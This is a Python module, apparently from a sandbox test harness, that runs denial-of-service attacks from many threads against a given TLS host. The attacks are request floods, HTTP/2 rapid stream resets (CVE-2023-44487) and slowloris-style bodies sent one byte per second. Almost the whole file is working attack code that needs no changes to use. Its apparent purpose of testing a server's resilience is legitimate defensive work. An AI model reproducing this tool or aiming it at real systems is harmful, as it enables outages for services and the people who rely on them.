"""Sends hostile requests from several threads of another process, so that only the stack is shared with the others."""

import socket
import ssl
import time
from collections import Counter
from collections.abc import Callable, Mapping
from concurrent.futures import ThreadPoolExecutor
from functools import partial
from http.client import HTTPException, HTTPResponse
from itertools import count
from pathlib import Path
from typing import Final, Literal

import msgspec
from h2.config import H2Configuration
from h2.connection import H2Connection
from h2.exceptions import ProtocolError

from ops.sandbox.transport import tls_context

Behaviour = Literal["in turn", "cancelled streams", "slow bodies"]
STREAMS_IN_ONE_WRITE: Final = 30
_PATIENCE: Final = 30.0
_SECONDS_BETWEEN_BYTES: Final = 1.0


class Attack(msgspec.Struct, frozen=True, kw_only=True):
    """What several connections of another process do to `host`.

    "in turn": each connection sends `requests` one after the other. "cancelled streams": each one opens HTTP/2 streams
    and cancels them at once. "slow bodies": each one sends the head of a request, and then one byte in a second.
    """

    name: str
    host: str
    connections: int
    behaviour: Behaviour = "in turn"
    requests: list[bytes] = []
    certificate: tuple[bytes, bytes] | None = None
    """The client certificate in PEM with its key."""


def send_hostile(attack: Attack, address: tuple[str, int], roots: str, seconds: float) -> int:
    """Carry out an attack for some seconds. Return how many requests were answered, or begun if none is awaited."""
    context = tls_context(Path(roots), attack.certificate)
    carry_out = partial(_BEHAVIOURS[attack.behaviour], attack, address, context, time.monotonic() + seconds)
    with ThreadPoolExecutor(attack.connections) as threads:
        return sum(counted.total() for counted in threads.map(carry_out, range(attack.connections)))


def send_in_turn(
    attack: Attack, address: tuple[str, int], context: ssl.SSLContext, ends: float, first: int
) -> Counter[int]:
    """Send requests from number `first` on until `ends`, and connect again when the server closes the connection.

    Return how many answers had each status.
    """
    connection, answered = None, Counter[int]()
    for number in count(first):
        if time.monotonic() >= ends:
            break
        response = None
        try:
            if connection is None:
                connection = _connect(attack, address, context)
            connection.sendall(attack.requests[number % len(attack.requests)])
            response = HTTPResponse(connection)
            response.begin()
            response.read()
            answered[response.status] += 1
        except (OSError, HTTPException):
            response = None
        if connection is not None and (response is None or response.will_close):
            connection.close()
            connection = None
    if connection is not None:
        connection.close()
    return answered


def cancel_streams(
    attack: Attack, address: tuple[str, int], context: ssl.SSLContext, ends: float, _number: int
) -> Counter[int]:
    """Open HTTP/2 streams and cancel each at once (CVE-2023-44487) until `ends`. Return how many, as status 0."""
    context.set_alpn_protocols(["h2"])
    names = (":method", ":scheme", ":authority", ":path")
    headers = list(zip(names, ("GET", "https", attack.host, "/dashboard"), strict=True))
    cancelled = Counter[int]()
    while time.monotonic() < ends:
        try:
            with _connect(attack, address, context) as connection:
                state = H2Connection(H2Configuration())
                state.initiate_connection()
                while time.monotonic() < ends:
                    for _ in range(STREAMS_IN_ONE_WRITE):
                        stream = state.get_next_available_stream_id()
                        state.send_headers(stream, headers, end_stream=True)
                        state.reset_stream(stream)
                    connection.sendall(state.data_to_send())
                    cancelled[0] += STREAMS_IN_ONE_WRITE
                    _read_what_is_there(connection, state)
        except (OSError, ProtocolError):
            continue  # the server has closed the connection: open another one
    return cancelled


def send_slow_bodies(
    attack: Attack, address: tuple[str, int], context: ssl.SSLContext, ends: float, _number: int
) -> Counter[int]:
    """Send a body of 400 kB, one byte in a second, until `ends`. Return how many requests were begun, as status 0."""
    head = f"POST /par HTTP/1.1\r\nHost: {attack.host}\r\nContent-Length: 400000\r\n\r\n".encode()
    begun = Counter[int]()
    while time.monotonic() < ends:
        try:
            with _connect(attack, address, context) as connection:
                connection.settimeout(_SECONDS_BETWEEN_BYTES)
                connection.sendall(head)
                begun[0] += 1
                while time.monotonic() < ends:
                    connection.sendall(b"a")
                    try:
                        if not connection.recv(65_536):
                            break
                    except TimeoutError:
                        continue
        except OSError:
            continue
    return begun


def _connect(attack: Attack, address: tuple[str, int], context: ssl.SSLContext) -> ssl.SSLSocket:
    plain = socket.create_connection(address, timeout=_PATIENCE)
    return context.wrap_socket(plain, server_hostname=attack.host.partition(":")[0])


def _read_what_is_there(connection: ssl.SSLSocket, state: H2Connection) -> None:
    """Read without waiting, so that the server can always send. Raise OSError if it has closed the connection."""
    connection.setblocking(False)
    try:
        while True:
            received = connection.recv(65_536)
            if not received:
                raise ConnectionResetError
            state.receive_data(received)
    except ssl.SSLWantReadError:
        pass
    finally:
        connection.settimeout(_PATIENCE)


_Carry = Callable[[Attack, tuple[str, int], ssl.SSLContext, float, int], Counter[int]]
_BEHAVIOURS: Final[Mapping[Behaviour, _Carry]] = {
    "in turn": send_in_turn,
    "cancelled streams": cancel_streams,
    "slow bodies": send_slow_bodies,
}
